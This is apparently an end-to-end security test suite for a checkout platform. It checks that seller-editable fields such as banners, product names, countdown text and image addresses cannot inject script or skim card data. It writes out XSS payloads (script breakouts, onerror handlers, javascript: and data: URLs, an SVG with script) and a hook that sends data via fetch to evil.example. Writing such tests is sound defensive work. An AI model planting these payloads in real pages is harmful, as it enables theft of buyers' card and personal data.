import { beforeAll, describe, expect, it } from 'vitest';
import { configurationKinds, type ConfigurationOf } from '../../domain/configuration/schemas.ts';
import { countdown } from '../../embedded/seed/decoration.ts';
import { demoConfigurations } from '../../embedded/seed/demo.ts';
import { CARDS, checkoutPage, PAID, state } from './support/checkout.ts';
import { aCourse, SENT } from './support/offers.ts';
import type { Running } from './support/running.ts';

const LAYOUTS = ['DEFAULT', 'DROPSHIPPING', 'VEGA'] as const;
const idOf = (layout: string) => `skimmed-${layout}`.toLowerCase();

/** Runs in each document that is opened: whatever is injected calls it. */
const NOTES = `globalThis.ran = []; globalThis.run = (place) => { ran.push(place); fetch('https://evil.example/' + place); };`;
/** Ends the element that holds a page's data, an attribute, and an element's text. */
const inject = (place: string) =>
  `</script><script>run("${place}")</script>"><img src=x onerror=run("${place}")>`;
/** As addresses of pictures; the schema takes any. */
const ADDRESSES = [
  'javascript:run("address")',
  'data:text/html,<script>parent.run("address")</script>',
  'https://evil.example/a.svg" onerror="run(\'address\')',
];
const picture = (url: string) => ({ url, width: 640, height: 480 });
const [LOGO = '', HEADER = '', FACE = ''] = ADDRESSES;

const demo = <K extends 'Offer' | 'Product'>(id: string) =>
  demoConfigurations.find((each) => each.id === id)?.content as ConfigurationOf<K>;

function hostileAppearance(): ConfigurationOf<'Offer'>['appearance'] {
  return {
    ...demo<'Offer'>('demo-digital').appearance,
    ...{ logoTopImage: picture(LOGO), headerImage: picture(HEADER) },
    bannerText: inject('banner'),
    feedbacks: [
      {
        ...{ id: 'x', title: inject('said'), description: inject('more'), stars: 5 },
        image: picture(FACE),
      },
    ],
    countdown: { ...countdown, text: inject('countdown'), endText: inject('end') },
    chat: { phone: '11987654321', message: inject('chat'), side: 'RIGHT' },
    backRedirect: `https://evil.example/?"onload=run('back')`,
  };
}

const hostileProduct = (base: ConfigurationOf<'Product'>, place: string, image: string) => ({
  ...base,
  ...{ name: inject(place), description: inject(`${place}-text`), image: picture(image) },
  seller: { ...(base.seller as object), name: inject('seller') } as typeof base.seller,
});
/** What of it a buyer reads on every layout's form, as it was written. */
const READ = ['banner', 'kit', 'said', 'more', 'countdown', 'bump', 'way'];

export const skimmersSuite = ({ onPhone, operator }: Running) =>
  describe('a skimmer in each place where a seller can write', () => {
    beforeAll(async () => {
      const { save, saveOffer } = await operator();
      const kit = hostileProduct(demo<'Product'>(SENT.productId), 'kit', LOGO);
      await save('Product', 'hostile-kit', { ...kit, productId: 'hostile-kit' });
      await save('Product', 'hostile', hostileProduct(aCourse('hostile'), 'course', FACE));
      const goesAlong = { productId: 'hostile', orderBumpOfferIds: [], upsellOfferIds: [] };
      await saveOffer('hostile-bump', { ...goesAlong, title: inject('bump') });
      await saveOffer('hostile-upsell', { ...goesAlong, title: inject('upsell') });
      const deliveryOptions = SENT.deliveryOptions.map((option, index) =>
        index === 0 ? { ...option, description: inject('way'), deliveryTime: inject('days') } : option,
      );
      for (const layout of LAYOUTS)
        await saveOffer(idOf(layout), {
          ...{ ...SENT, layout, productId: 'hostile-kit', title: inject('offer'), deliveryOptions },
          ...{ orderBumpOfferIds: ['hostile-bump'], upsellOfferIds: ['hostile-upsell'] },
          appearance: hostileAppearance(),
        });
    });

    it.each(LAYOUTS)('%s: neither runs nor reads a card', async (layout) => {
      const buyer = await onPhone();
      const { page, context, sent } = buyer;
      await page.addInitScript(NOTES);
      // Pictures are shown from anywhere; none of these is one.
      buyer.expectProblem(/^Failed to load resource/);
      buyer.expectProblem(/Refused to load the image|violates the following.*img-src/);
      await context.route('https://evil.example/**', (route) =>
        route.fulfill({
          contentType: 'image/svg+xml',
          body: `<svg xmlns="http://www.w3.org/2000/svg"><script>run("svg")</script></svg>`,
        }),
      );
      const checkout = checkoutPage(page, idOf(layout));
      await checkout.open();
      await checkout.fillBuyer('Lia Prado');
      if (layout === 'DROPSHIPPING') await checkout.goOn();
      await checkout.field('CEP').fill('01310-100');
      await checkout.field('Número').fill('12');
      await page.getByText(inject('way')).first().waitFor();
      const text = await page.locator('body').innerText();
      if (layout === 'DROPSHIPPING') await checkout.goOn();
      await checkout.choose('Cartão');
      const shown = text + (await page.locator('body').innerText());
      expect(READ.filter((place) => !shown.includes(inject(place)))).toEqual([]);
      await checkout.fillCard(CARDS.approved);
      await checkout.payButton.click();
      await state(page, PAID).waitFor();
      await page.getByText(inject('upsell')).first().waitFor();

      for (const frame of page.frames()) expect(await frame.evaluate('ran')).toEqual([]);
      const evil = sent.filter((one) => one.url.includes('evil.example'));
      expect(evil.filter(({ kind }) => kind !== 'image')).toEqual([]);
      expect(JSON.stringify(evil)).not.toMatch(/4111|737|lia\.prado|52998224725/);
      expect(
        await page
          .locator('script')
          .evaluateAll((all) => all.filter((one) => one.textContent?.startsWith('run(')).length),
      ).toBe(0);
    });

    it('is no colour and no pixel, which are of a form', () => {
      const offer = demo<'Offer'>('demo-digital');
      for (const colour of ['bannerTextColor', 'bannerTextBackgroundColor', 'colorPrimary']) {
        const appearance = { ...offer.appearance, [colour]: 'red;background:url(//evil.example)' };
        expect(configurationKinds.Offer.schema.safeParse({ ...offer, appearance }).success).toBe(false);
      }
      const product = demo<'Product'>('demo-course');
      for (const network of Object.keys(product.pixels)) {
        const hostile = network.startsWith('google') ? inject('pixel') : [inject('pixel')];
        const pixels = { ...product.pixels, [network]: hostile };
        expect(configurationKinds.Product.schema.safeParse({ ...product, pixels }).success).toBe(false);
      }
    });

    it('is no address to go back to but one of another page', () => {
      const offer = demo<'Offer'>('demo-digital');
      for (const backRedirect of ['javascript:run()', 'data:text/html,x', 'http://evil.example'])
        expect(
          configurationKinds.Offer.schema.safeParse({
            ...{ ...offer, appearance: { ...offer.appearance, backRedirect } },
          }).success,
        ).toBe(false);
    });
  });
